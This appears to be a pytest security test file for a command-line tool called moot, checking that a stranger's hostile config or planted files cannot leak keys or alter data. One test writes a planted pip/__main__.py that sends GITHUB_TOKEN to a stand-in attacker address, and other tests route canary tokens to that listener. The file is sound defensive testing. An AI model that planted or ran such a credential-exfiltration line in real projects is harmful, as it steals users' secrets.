"""A stranger's repository is cloned, and moot is used in it: nothing of yours leaves, nothing of yours changes.

For every setting there is, a moot.toml that tries to do harm with it, the real commands, keys in the
environment, and an attacker who listens.
"""

from __future__ import annotations

import json
import signal
import subprocess
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from moot.settings import Settings, Standing, standing_of
from moot.testing import ModelServerProcess
from tests.cli.command import MOOT, Command, Done
from tests.cli.hostile_repository import (
    ATTEMPTS,
    CANARIES,
    Attacker,
    attempts_on,
    fingerprints,
    make_victims,
)
from tests.harness.waiting import PATIENCE

NAMES = [name for name in Settings.model_fields if standing_of(name) is not Standing.HARMLESS]
COMMANDS = ("models", "doctor", "ask Tabs?", "serve")
YOURS = """\
openrouter_base_url = "{models}"
default_models = ["a/one", "a/two", "a/three"]
port = 0
max_tokens = 100000
max_dollars = 2

[providers.lab]
base_url = "{models}"
api_key_env = "LAB_API_KEY"
"""


@dataclass
class Neighbourhood:
    """Your home with your settings and models, your other files, and the attacker."""

    home: Path
    victims: Path
    attacker: Attacker
    models: ModelServerProcess
    before: dict[str, str]

    def clone(self, name: str, moot_toml: str) -> Command:
        folder = self.home / name
        folder.mkdir()
        (folder / "moot.toml").write_text(moot_toml)
        own = {"XDG_DATA_HOME": str(self.home / "data"), "XDG_CONFIG_HOME": str(self.home / "config")}
        return Command(folder, {**own, **CANARIES, "HOME": str(self.home)})


@pytest.fixture(scope="module")
def neighbourhood(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Neighbourhood]:
    home = tmp_path_factory.mktemp("home")
    make_victims(home / "victims")
    script = {"models": {"a/one": "Tabs.", "a/two": "Tabs.", "a/three": "Spaces."}, "default": "Tabs."}
    with Attacker() as attacker, ModelServerProcess(script) as models:
        (home / "config" / "moot").mkdir(parents=True)
        (home / "config" / "moot" / "moot.toml").write_text(YOURS.format(models=models.url))
        yield Neighbourhood(home, home / "victims", attacker, models, fingerprints(home / "victims"))


@pytest.fixture
def place(neighbourhood: Neighbourhood) -> Neighbourhood:
    neighbourhood.attacker.heard.clear()
    neighbourhood.models.reset()
    return neighbourhood


def serve(moot: Command) -> Done:
    """Start the server, and stop it as soon as it says where it is."""
    with subprocess.Popen(
        [MOOT, "serve"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=moot.home,
        env=moot.whole_environment,
    ) as server:
        assert server.stdout is not None
        line = server.stdout.readline().decode()
        server.send_signal(signal.SIGINT)
        out, err = server.communicate(timeout=PATIENCE)
    return Done(server.returncode, line + out.decode(), err.decode())


def use(moot: Command, commands: Sequence[str] = COMMANDS) -> dict[str, Done]:
    return {words: serve(moot) if words == "serve" else moot(*words.split()) for words in commands}


def check_nothing_happened(place: Neighbourhood, done: dict[str, Done]) -> None:
    assert place.attacker.heard == []
    assert fingerprints(place.victims) == place.before
    requests = json.dumps(place.models.requests())
    assert "evil" not in requests
    assert not any(
        canary in requests for variable, canary in CANARIES.items() if "OPENROUTER" not in variable
    )
    for words, one in done.items():
        told = [line for line in one.out.splitlines() if "moot ignored" not in line]
        assert "evil" not in "\n".join(told), words
        assert one.code in ((0, 3) if words.startswith("ask") else (0,)), f"{words}: {one.out}{one.err}"
        assert (one.out + one.err).count("moot ignored") == 1, f"{words}: {one.err}"
    if "serve" in done:
        assert done["serve"].out.startswith("moot is at http://127.0.0.1:")
        assert place.attacker.address not in done["serve"].out


@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_strangers_file_sends_nothing_away_and_changes_nothing(
    place: Neighbourhood, name: str, request: pytest.FixtureRequest
) -> None:
    """`moot doctor` goes to every place that any command goes to; --every-command runs the others too."""
    commands = COMMANDS if request.config.getoption("--every-command") else ["doctor"]
    tries = attempts_on(name, attacker=place.attacker.address, victims=str(place.victims))
    for number, text in enumerate(tries):
        check_nothing_happened(place, use(place.clone(f"{name}-{number}", text), commands))


def test_nor_does_a_file_that_tries_everything_at_once_whatever_is_done_in_its_folder(
    place: Neighbourhood,
) -> None:
    tries = (attempts_on(name, attacker=place.attacker.address, victims=str(place.victims)) for name in NAMES)
    done = use(place.clone("everything", "\n".join(text for text, *_ in tries)))
    check_nothing_happened(place, done)
    assert "openrouter_api_key, openrouter_base_url" in done["ask Tabs?"].err
    assert any(received["path"].endswith("/chat/completions") for received in place.models.requests())


def test_a_file_that_you_trust_counts_and_your_keys_go_where_you_were_told(place: Neighbourhood) -> None:
    """Also shows that the attacker would have heard, had anything been sent."""
    lab = f'[providers.lab]\nbase_url = "http://{place.attacker.address}/v1"\napi_key_env = "GITHUB_TOKEN"'
    moot = place.clone("trusted", lab)
    said = moot("trust", "--yes")
    assert said.code == 0
    assert "it replaces your own [providers.lab]" in said.out
    assert f"the value of GITHUB_TOKEN is sent to http://{place.attacker.address}/v1" in said.out
    assert place.attacker.heard == []
    moot("models")
    assert CANARIES["GITHUB_TOKEN"].encode() in place.attacker.heard[0]


@pytest.mark.parametrize("file", ["notes.txt", "accounts.db"])
def test_a_file_that_is_not_moots_is_never_made_a_database(place: Neighbourhood, file: str) -> None:
    """Not even one that you named yourself."""
    moot = place.clone(f"named-{file}", "")
    for words in ("doctor", "ask Tabs?", "runs"):
        done = moot(*words.split(), DATABASE_URL=f"sqlite:///{place.victims / file}")
        assert done.code == 1, words
        assert "left as it is" in done.out + done.err, words
    assert fingerprints(place.victims) == place.before


def test_a_package_beside_it_is_not_run_when_the_embedder_is_fetched(place: Neighbourhood) -> None:
    moot = place.clone("pip", "")
    (moot.home / "pip").mkdir()
    (moot.home / "pip" / "__init__.py").touch()
    (moot.home / "pip" / "__main__.py").write_text(
        "import os, urllib.request\n"
        f"urllib.request.urlopen('http://{place.attacker.address}/' + os.environ['GITHUB_TOKEN'])\n"
    )
    closed = "http://127.0.0.1:9"
    moot("embedder", "install", PIP_INDEX_URL=closed, PIP_RETRIES="0", https_proxy=closed)
    assert place.attacker.heard == []
